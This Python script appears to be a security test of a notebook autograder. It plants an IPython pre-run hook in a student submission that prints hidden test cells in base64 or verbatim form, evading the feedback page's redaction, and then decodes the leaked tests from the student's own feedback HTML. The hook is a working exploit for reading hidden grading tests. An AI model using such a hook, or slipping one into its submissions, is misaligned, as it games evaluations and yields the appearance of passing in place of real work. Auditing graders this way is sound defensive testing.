"""a02: reading the hidden tests through the student's own feedback page. nbgrader restores each test cell's
"### BEGIN HIDDEN TESTS" region before it runs the notebook, so the kernel can read it; the feedback page
(grader.feedback.HideHiddenTests) replaces the region in the shown source and removes, from the cell's outputs, any
output line that *contains* one of the region's lines verbatim. A submission that prints the region encoded (here
base64, one line) is not matched. The hand-in is the honest solution plus, in its first answer cell, an IPython
`pre_run_cell` hook that prints base64 of every cell about to run whose text holds "HIDDEN TESTS".
Checked: the student's feedback HTML holds the encoded text; decoded, the hidden regions of the test cells.
Through `python -m grader.grade --course-dir DIR --workers 1`, mallory + an honest student (control)."""
import base64, glob, os, re, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common24 import *  # noqa
from common24 import ROOT  # noqa

A = os.environ.get("A", "ps1_memory")
MODE = os.environ.get("MODE", "base64")  # base64: printed encoded in the test cell; verbatim: kept, printed as-is in the next answer cell
HOOK_VERBATIM = r'''
__kept = []
def __leak(info):
    src = getattr(info, "raw_cell", "") or ""
    if "HIDDEN TESTS" in src:
        __kept.append(src[src.find("### BEGIN HIDDEN"):src.find("### END HIDDEN TESTS") + 20])
    elif __kept:  # an answer cell: its outputs are not looked at for hidden lines
        print("VERBATIM:\n" + "\n".join(__kept))
        __kept.clear()
get_ipython().events.register("pre_run_cell", __leak)
'''
HOOK = r'''
def __leak(info):
    import base64
    src = getattr(info, "raw_cell", "") or ""
    if "HIDDEN TESTS" in src:
        print("LEAK:" + base64.b64encode(src.encode()).decode() + ":KAEL")
get_ipython().events.register("pre_run_cell", __leak)
'''


def hostile():
    nb = honest(A)
    for c in nb.cells:
        if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            c.source += "\n" + (HOOK_VERBATIM if MODE == "verbatim" else HOOK)
            break
    return nb


def main():
    dest = f"/tmp/attack24-a02-{MODE}"
    course(dest, {"mallory": hostile(), "zz_honest": honest(A)}, A)
    rc = grade(dest)
    sc = scores(dest)
    print(f"RESULT: rc={rc} scores {[(s, v['score'], v['max']) for s, v in sorted(sc.items())]}")
    pages = glob.glob(os.path.join(dest, "feedback", "mallory", A, "*.html"))
    print("mallory's feedback pages:", [p.replace(dest, "<course>") for p in pages])
    found = []
    for p in pages:
        html = open(p, encoding="utf-8", errors="replace").read()
        print("page says 'hidden tests ran here' placeholders:", html.count("hidden tests ran here"),
              "| redaction markers:", html.count("a line of the hidden tests, removed"))
        for b in re.findall(r"LEAK:([A-Za-z0-9+/=]+):KAEL", html):
            found.append(base64.b64decode(b).decode(errors="replace"))
    for p in pages:
        import html as _h
        text = _h.unescape(open(p, encoding="utf-8", errors="replace").read())
        found += ["### BEGIN HIDDEN TESTS" + m for m in re.findall(r"### BEGIN HIDDEN TESTS(.*?### END HIDDEN TESTS)", text, re.S)]
    print(f"hidden regions found in mallory's feedback ({MODE}): {len(found)}")
    for src in found[:3]:
        m = re.search(r"### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS", src, re.S)
        print("---- decoded hidden region (from the feedback page):\n" + (m.group(0) if m else src[:300]))
    leaked = sum(1 for s in found if "### BEGIN HIDDEN TESTS" in s)
    print(f"RESULT: {leaked} test cells' hidden regions read back from mallory's own feedback page")
    cleanup(dest)


if __name__ == "__main__":
    main()
